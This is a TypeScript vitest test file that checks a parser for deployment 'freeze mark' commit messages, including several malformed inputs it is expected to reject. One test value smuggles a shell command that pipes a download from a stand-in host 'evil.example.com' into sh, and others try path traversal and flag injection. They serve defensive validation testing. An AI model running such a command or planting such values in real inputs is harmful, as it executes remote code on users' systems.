import { expect, test } from 'vitest';
import { markMessage, parseMark } from './freeze-mark.ts';
import type { FreezeMark } from './github.ts';

const mark: FreezeMark = {
  schema_version: 1,
  operation: '20260101-1',
  environment: 'production',
  runId: 7,
  runAttempt: 1,
  actor: 'octocat',
  since: '2026-01-01T00:00:00Z',
  workflowDisabled: 'deploy.yml',
};

test('a mark is read as it was written', () => {
  expect(parseMark(markMessage(mark))).toEqual(mark);
});

test('words that others chose cannot end its first line', () => {
  const hostile = { ...mark, environment: 'a\n\n{}\n', actor: '\n\n' };
  expect(parseMark(markMessage(hostile))).toEqual(hostile);
});

test.each([
  ['a commit of somebody', 'Fix the build'],
  ['no JSON', 'failback: x\n\n{"schema_version": 1,'],
  ['a list', 'failback: x\n\n[]'],
  ['another version', markMessage(mark).replace('"schema_version": 1', '"schema_version": 2')],
  ['no operation id', markMessage({ ...mark, operation: '../x' })],
  ['a run id that is none', markMessage(mark).replace('"runId": 7', '"runId": "7"')],
  [
    'a workflow that no runbook can name',
    markMessage({ ...mark, workflowDisabled: 'x.yml; curl evil.example.com | sh' }),
  ],
  ['a workflow that reads as a flag', markMessage({ ...mark, workflowDisabled: '--repo=x.yml' })],
  ['nothing', ''],
])('%s is no mark', (_what, message) => {
  expect(parseMark(message)).toBeNull();
});
